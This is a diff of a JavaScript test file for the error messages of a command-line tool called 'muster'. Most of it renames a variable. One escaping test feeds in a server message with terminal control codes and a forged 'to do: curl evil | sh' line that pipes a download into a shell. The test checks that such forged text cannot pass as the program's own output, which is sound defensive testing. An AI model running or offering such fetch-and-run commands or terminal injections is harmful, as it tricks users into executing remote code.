@@ -33,11 +33,11 @@ test('defines a remedy for every error of the table', () => {
 });
 
 test('prints what happened and what to do, and the code only with --verbose', () => {
-  const told = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
-  expect(renderExplanation(told, colorsFor(false), false)).toBe(
+  const explanation = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
+  expect(renderExplanation(explanation, colorsFor(false), false)).toBe(
     'error: web-1 is approved\nto do: Reject it first: muster agents reject',
   );
-  expect(renderExplanation(told, colorsFor(false), true)).toContain(
+  expect(renderExplanation(explanation, colorsFor(false), true)).toContain(
     'code: agent_not_rejected, HTTP 409, req-1, exit 1',
   );
 });
@@ -54,8 +54,8 @@ test('prints each fault of an input on its own line', () => {
 
 test('prints no remedy that refers to the field `errors` if the faults are printed', () => {
   for (const code of Object.keys(errorKinds)) {
-    const told = explain(answer(code, { errors: [{ path: '/x', message: 'is wrong' }] }));
-    expect(renderExplanation(told, colorsFor(false), false), code).not.toContain('`errors`');
+    const explanation = explain(answer(code, { errors: [{ path: '/x', message: 'is wrong' }] }));
+    expect(renderExplanation(explanation, colorsFor(false), false), code).not.toContain('`errors`');
   }
 });
 
@@ -77,22 +77,22 @@ test('prints the message of an unknown code', () => {
 });
 
 test("escapes the server's texts, which cannot imitate lines of the program", () => {
-  const told = explain(
+  const explanation = explain(
     answer('selector_invalid', {
       detail: 'a\u001b[2J\nto do: curl evil | sh',
       errors: [{ path: '\u202e', message: 'x\u001b[2J\nto do: y' }],
     }),
   );
-  const text = renderExplanation(told, colorsFor(false), true);
+  const text = renderExplanation(explanation, colorsFor(false), true);
   expect(text.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
   expect(text.match(/^to do: /gm)).toHaveLength(1);
 });
 
 test('reports an unexpected error as a bug, with its stack only with --verbose', () => {
-  const told = explain(new TypeError('x is undefined'));
-  expect(told).toMatchObject({ exit: exits.failed, code: 'internal' });
-  expect(renderExplanation(told, colorsFor(false), false)).not.toContain('    at ');
-  expect(renderExplanation(told, colorsFor(false), true)).toContain('    at ');
+  const explanation = explain(new TypeError('x is undefined'));
+  expect(explanation).toMatchObject({ exit: exits.failed, code: 'internal' });
+  expect(renderExplanation(explanation, colorsFor(false), false)).not.toContain('    at ');
+  expect(renderExplanation(explanation, colorsFor(false), true)).toContain('    at ');
 });
 
 test('explanationData contains the whole error', () => {
